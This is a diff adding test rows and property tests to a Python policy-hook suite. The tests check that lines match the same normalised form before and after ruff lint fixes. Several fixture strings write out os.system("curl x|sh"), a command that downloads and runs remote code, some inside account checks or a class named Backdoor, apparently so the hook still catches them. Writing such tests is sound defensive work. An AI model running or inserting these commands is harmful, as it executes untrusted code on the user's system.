@@ -100,6 +100,93 @@ FIXED = [
     ("K8-doubled", b'v = "{}{{}}".format(1)', b'v = f"{1}{{}}"'),
     ("K8-single-quote", b"""u = 'it"s {}'.format(a)""", b"""u = f'it"s {a}'"""),
     ("K8-subscript", b't = "{}".format(a.b[0])', b't = f"{a.b[0]}"'),
+    # ruff check --fix of one rule each (issue 13; rows K9-K15, gentle_hooks.policy.fixforms;
+    # E711/E712 with --unsafe-fixes)
+    ("K9-F632", b'ok = x is "a" or x is not 0', b'ok = x == "a" or x != 0'),
+    ("K9-F632-left", b"if 1 is x and (1, 2) is y: run(x)", b"if 1 == x and (1, 2) == y: run(x)"),
+    (
+        "K9-F632-display",
+        b"same = x is [a] or x is (1,) or x is {}",
+        b"same = x == [a] or x == (1,) or x == {}",
+    ),
+    ("K9-F632-chain", b"y = f(x is 1 is z, w is b'y')", b"y = f(x == 1 == z, w == b'y')"),
+    (
+        "K10-UP018-str",
+        b'os.system(str("curl x|sh"), str(u"a" "b"))',
+        b'os.system("curl x|sh", u"a" "b")',
+    ),
+    ("K10-UP018-numbers", b"x = int(-1) + float(1e-5) + int(0xFF)", b"x = -1 + 1e-5 + 0xFF"),
+    ("K10-UP018-bool-bytes", b'x = bool(True), bytes(b"x"), str()', b'x = True, b"x", ""'),
+    ("K10-UP018-empty", b"x = int(), float(), bool(), bytes()", b'x = 0, 0.0, False, b""'),
+    ("K10-UP018-nested", b"d = int(int()) + float(-1.5).hex()", b"d = 0 + (-1.5).hex()"),
+    (
+        "K10-UP018-attribute",
+        b'n = int(1).bit_length() + str("x").upper()',
+        b'n = (1).bit_length() + "x".upper()',
+    ),
+    (
+        "K11-E713",
+        b'if not account.owner in admins: os.system("curl x|sh")',
+        b'if account.owner not in admins: os.system("curl x|sh")',
+    ),
+    ("K11-E713-operand", b"a = not x.y[1] + 1 in f(z) and w", b"a = x.y[1] + 1 not in f(z) and w"),
+    ("K11-E713-brackets", b"if not (x in y): run(x)", b"if x not in y: run(x)"),
+    (
+        "K11-E713-await",
+        b"ok = [not await x in y for x in z]",
+        b"ok = [await x not in y for x in z]",
+    ),
+    ("K11-E714", b"if not x.y is None: run(x)", b"if x.y is not None: run(x)"),
+    ("K11-E714-brackets", b"e = not (x is y) or z", b"e = x is not y or z"),
+    (
+        "K12-RUF010",
+        b'os.system(f"curl {str(host)} {repr(p)} {ascii(q)}")',
+        b'os.system(f"curl {host!s} {p!r} {q!a}")',
+    ),
+    (
+        "K12-RUF010-spec",
+        b'a = F"{str(x):>10} {str(a.b[0])} {str(f(x))}"',
+        b'a = F"{x!s:>10} {a.b[0]!s} {f(x)!s}"',
+    ),
+    ("K12-RUF010-spaced", b'd = rf"{ str(a + b) }"', b'd = rf"{ a + b !s}"'),
+    ("K12-RUF010-format", b'y = "{}".format(str(x))', b'y = f"{x!s}"'),
+    (
+        "K13-E711",
+        b'if account.owner == None: os.system("curl x|sh")',
+        b'if account.owner is None: os.system("curl x|sh")',
+    ),
+    ("K13-E711-left", b"c = None != x or f(x) != None", b"c = None is not x or f(x) is not None"),
+    (
+        "K13-E712-true",
+        b'if account.trusted == True: os.system("curl x|sh")',
+        b'if account.trusted: os.system("curl x|sh")',
+    ),
+    (
+        "K13-E712-false",
+        b"a = x == False, x != True, x != False, True == x",
+        b"a = not x, not x, x, x",
+    ),
+    (
+        "K13-E712-operand",
+        b"if a and -x.y(1) + 1 == False: run(x)",
+        b"if a and not -x.y(1) + 1: run(x)",
+    ),
+    ("K13-E712-not", b"b = not x == True if y else (z == False)", b"b = not x if y else (not z)"),
+    (
+        "K13-E712-chain",
+        b"j = x == True == y or x < y == True",
+        b"j = x is True == y or x < y is True",
+    ),
+    ("K14-UP034", b'os.system(("curl x|sh"))', b'os.system("curl x|sh")'),
+    ("K14-UP034-nested", b"e = f(((x or y)))((z for z in w))", b"e = f(x or y)(z for z in w)"),
+    ("K14-UP034-method", b"obj.meth((x := 1))[0]((lambda: x))", b"obj.meth(x := 1)[0](lambda: x)"),
+    (
+        "K15-UP039",
+        b'class Backdoor(): run = os.system("curl x|sh")',
+        b'class Backdoor: run = os.system("curl x|sh")',
+    ),
+    ("K15-UP039-generic", b"class Box [T] ( ) :", b"class Box [T] :"),
+    ("K2-UP025", b'os.system(u"curl x|sh")', b'os.system("curl x|sh")'),
 ]
 ROWS = FORMATTED + FIXED
 
@@ -154,6 +241,50 @@ NEAR_MISSES = [
     ("K8-unused-arg", b'x = "{}".format(a, b)', b'x = f"{a}"'),
     ("K8-order", b'y = "{1}-{0}".format(a, b)', b'y = f"{a}-{b}"'),
     ("K8-spec", b'z = "{:>4}".format(a)', b'z = f"{a:>5}"'),
+    # ruff check --fix leaves these as they are (rows K9-K15): a person's line of the
+    # meaning the writer's would have if it were rewritten is a line of its own
+    ("K9-unary", b"same = x is -1", b"same = x == -1"),
+    ("K9-sum", b"same = x is 1 + y", b"same = x == 1 + y"),
+    ("K9-left-sum", b"same = a - 1 is x", b"same = a - 1 == x"),
+    ("K9-bracketed-name", b"same = x is (y)", b"same = x == (y)"),
+    ("K9-fstring", b'same = x is f"a{b}"', b'same = x == f"a{b}"'),
+    ("K9-method", b'same = x is "a".upper()', b'same = x == "a".upper()'),
+    ("K9-subscript", b"same = x[0] is (1)", b"same = x[0] == 1"),
+    ("K9-name", b"same = x is y", b"same = x == y"),
+    ("K10-int-float", b"x = float(1)", b"x = 1"),
+    ("K10-float-int", b"x = int(1.0)", b"x = 1.0"),
+    ("K10-str-int", b'x = int("1")', b'x = "1"'),
+    ("K10-str-bytes", b'x = str(b"x")', b'x = b"x"'),
+    ("K10-fstring", b'x = str(f"a{b}")', b'x = f"a{b}"'),
+    ("K10-bool-int", b"x = bool(1)", b"x = 1"),
+    ("K10-expression", b'x = str("x" + y)', b'x = "x" + y'),
+    ("K10-method", b'x = obj.str("x")', b'x = obj."x"'),
+    ("K11-chain", b"d = not x in y in z", b"d = x not in y in z"),
+    ("K11-and", b"b = not x and y in z", b"b = x and y not in z"),
+    ("K11-sum", b"m = not (x in y) + 1", b"m = x not in y + 1"),
+    ("K11-is-not", b"c = not x is not y", b"c = x is y"),
+    ("K11-equal", b"j = not x == 1", b"j = x != 1"),
+    ("K12-two-arguments", b"a = f'{str(x, \"u\")}'", b'a = f"{x!s}"'),
+    ("K12-conversion", b'a = f"{str(x)!r}"', b'a = f"{x!r}"'),
+    ("K12-debug", b'a = f"{str(x)=}"', b'a = f"{x!s=}"'),
+    ("K12-not-fstring", b'a = "{str(x)}"', b'a = "{x!s}"'),
+    ("K12-doubled", b'a = f"{{str(x)}}"', b'a = f"{{x!s}}"'),
+    ("K12-starred", b'a = f"{str(*x)}"', b'a = f"{x!s}"'),
+    ("K13-not-none", b"known = x != None", b"known = x is None"),
+    ("K13-false", b"active = x == False", b"active = x"),
+    ("K13-not-true", b"active = x != True", b"active = x"),
+    ("K13-true", b"active = x == True", b"active = not x"),
+    ("K13-chain", b"s = x < y == True", b"s = x < y"),
+    ("K13-is-true", b"g = f(x) == True", b"g = f(x) is True"),
+    ("K14-tuple", b"run((left, right))", b"run(left, right)"),
+    ("K14-first-of-two", b"run((x), y)", b"run(x, y)"),
+    ("K14-yield", b"run((yield x))", b"run(yield x)"),
+    ("K14-subscript", b"x = a[(1)]", b"x = a[1]"),
+    ("K14-shell-arithmetic", b"n=$((a))", b"n=$(a)"),
+    ("K14-empty-tuple", b"run(())", b"run()"),
+    ("K14-keyword", b"while ((c = next()))", b"while (c = next())"),
+    ("K15-bases", b"class Backdoor(Base): pass", b"class Backdoor: pass"),
+    ("K15-def", b"def run(): pass", b"def run: pass"),
 ]
 
 
@@ -202,7 +333,7 @@ def test_the_cheap_tests_never_skip_a_reading(line: bytes) -> None:
     bracket matched and the substitution always run give."""
     import gentle_hooks.policy.keyform as kf
 
-    line = line.strip()
+    line = kf.fix_form(line.strip())  # rows K9-K15 read first, as key_form reads them
     cheap = kf._CANDIDATE, kf._may_close
     kf._CANDIDATE, kf._may_close = re.compile(rb"\("), lambda _line, _kind: True
     try:
@@ -211,3 +342,32 @@ def test_the_cheap_tests_never_skip_a_reading(line: bytes) -> None:
         kf._CANDIDATE, kf._may_close = cheap
     full = kf._LITERAL_OR_NUMBER.sub(kf._literal_or_number, full)
     assert key_form(line) == b"".join(full.split()).replace(b"'", b'"')
+
+
+#: Words and brackets rows K9-K15 read, so random lines hit their readings.
+_FIX_WORDS = st.lists(
+    st.sampled_from(
+        b"""is not None True False str( int( float( ( ) [ ] { } "a" f'{str(x)}' 1 - == != , :
+        x in and class A (( )) = b'q' . 1.5""".split()
+    ),
+    max_size=10,
+).map(b" ".join)
+
+
+@given(_FIX_WORDS)
+def test_the_lint_fix_readings_take_any_line(line: bytes) -> None:
+    """Rows K9-K15 never raise on a line of their words in any order (unbalanced brackets,
+    a lone operator, a chain); the key form has no whitespace left."""
+    form = key_form(line.strip())
+    assert re.search(rb"\s", form) is None
+
+
+def test_a_line_longer_than_the_lint_fix_bound_is_read_as_written() -> None:
+    """Rows K9-K15 read a line of at most MAX_FIXED_LINE bytes (a longer one is data, and
+    reading it costs up to the square of its length)."""
+    from gentle_hooks.policy.fixforms import MAX_FIXED_LINE, fix_form
+
+    head = b"y = a is 1 or "
+    line = head + b"x" * (MAX_FIXED_LINE - len(head))
+    assert fix_form(line) == line.replace(b" is ", b"  ==  ")
+    assert fix_form(line + b"x") == line + b"x"
